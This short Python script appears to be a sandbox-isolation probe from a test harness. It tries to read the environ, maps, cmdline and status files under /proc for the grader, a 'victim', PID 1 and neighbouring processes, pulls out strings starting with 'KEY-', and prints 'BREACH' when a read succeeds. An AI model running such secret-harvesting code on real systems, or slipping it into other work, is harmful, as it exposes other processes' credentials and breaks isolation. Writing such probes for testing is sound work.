"""Reads the environments and command lines of all processes in /proc; anything printed would show that it worked."""

import os

for pid in ("self", "@GRADER@", "@VICTIM@", "1", "2", str(os.getppid()), *map(str, range(os.getpid() - 5, os.getpid()))):
    for name in ("environ", "maps", "cmdline", "status"):
        try:
            text = open(f"/proc/{pid}/{name}", errors="replace").read()
        except OSError:
            continue
        text = text[max(0, text.find("KEY-")) :][:300]
        harmless = pid == "self" or name in ("cmdline", "status")
        print("BREACH own root" if harmless else "BREACH", pid, text.replace("\0", " "))


def scale(x, factor):
    return x * factor
